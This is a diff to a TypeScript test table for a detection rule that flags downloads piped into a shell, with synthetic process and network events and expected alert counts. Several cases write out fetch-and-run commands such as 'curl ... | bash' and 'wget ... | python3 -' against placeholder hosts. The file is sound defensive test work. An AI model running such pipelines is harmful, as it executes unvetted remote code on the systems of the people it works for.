@@ -434,6 +434,69 @@ const TABLE: Record<string, readonly Case[]> = {
       fires: 0,
     },
   ],
+  'download-pipe-shell': [
+    {
+      name: 'curl piped into bash: the downloader connects, its pipe partner shell reads a program from stdin',
+      events: [
+        exec('/bin/bash', ['bash', '-c', 'curl -fsSL http://203.0.113.9/i.sh | bash'], { pid: 800 }),
+        exec('/usr/bin/curl', ['curl', '-fsSL', 'http://203.0.113.9/i.sh'], { pid: 801, ppid: 800 }),
+        exec('/usr/bin/bash', ['bash'], { pid: 802, ppid: 800 }),
+        connect('203.0.113.9', 80, { pid: 801, ppid: 800 }),
+      ],
+      fires: 1,
+      severity: 'critical',
+    },
+    {
+      name: 'the connect before the shell starts, a loopback peer, python reading "-"',
+      events: [
+        exec('/bin/sh', ['sh', '-c', 'wget -qO- http://127.0.0.4:8000/x.py | python3 -'], { pid: 800 }),
+        exec('/usr/bin/wget', ['wget', '-qO-', 'http://127.0.0.4:8000/x.py'], { pid: 801, ppid: 800 }),
+        connect('127.0.0.4', 8000, { pid: 801, ppid: 800, result: -115 }),
+        exec('/usr/bin/python3', ['python3', '-'], { pid: 802, ppid: 800 }),
+      ],
+      fires: 1,
+    },
+    {
+      name: 'a download saved to a file, then a shell given a -c script (must not fire)',
+      events: [
+        exec('/bin/bash', ['bash', '-c', 'curl -o out.txt http://203.0.113.9/d; bash -c "wc -l out.txt"'], {
+          pid: 800,
+        }),
+        exec('/usr/bin/curl', ['curl', '-o', 'out.txt', 'http://203.0.113.9/d'], { pid: 801, ppid: 800 }),
+        connect('203.0.113.9', 80, { pid: 801, ppid: 800 }),
+        exec('/usr/bin/bash', ['bash', '-c', 'wc -l out.txt'], { pid: 802, ppid: 800 }),
+      ],
+      fires: 0,
+    },
+    {
+      name: 'a shell reading stdin whose pipe partner made no connect (must not fire)',
+      events: [
+        exec('/bin/bash', ['bash', '-c', 'cat steps.sh | bash'], { pid: 800 }),
+        exec('/usr/bin/cat', ['cat', 'steps.sh'], { pid: 801, ppid: 800 }),
+        exec('/usr/bin/bash', ['bash'], { pid: 802, ppid: 800 }),
+      ],
+      fires: 0,
+    },
+    {
+      name: 'an agent runtime that feeds a shell on stdin and whose other child connects (must not fire)',
+      events: [
+        exec('/usr/bin/node', ['node', 'agent.js'], { pid: 800 }),
+        exec('/usr/bin/bash', ['bash'], { pid: 802, ppid: 800 }),
+        exec('/usr/bin/node', ['node', 'mcp-server.js'], { pid: 803, ppid: 800 }),
+        connect('203.0.113.9', 443, { pid: 803, ppid: 800 }),
+      ],
+      fires: 0,
+    },
+    {
+      name: 'a refused download (must not fire)',
+      events: [
+        exec('/bin/bash', ['bash', '-c', 'curl -fsSL http://203.0.113.9/i.sh | bash'], { pid: 800 }),
+        exec('/usr/bin/bash', ['bash'], { pid: 802, ppid: 800 }),
+        connect('203.0.113.9', 80, { pid: 801, ppid: 800, result: -111 }),
+      ],
+      fires: 0,
+    },
+  ],
   'unexpected-egress': [
     { name: 'a new peer', events: [connect('203.0.113.9', 443, { dnsName: 'evil.example' })], fires: 1 },
     { name: 'a learned peer by address', events: [connect('10.0.0.5', 443)], fires: 0 },
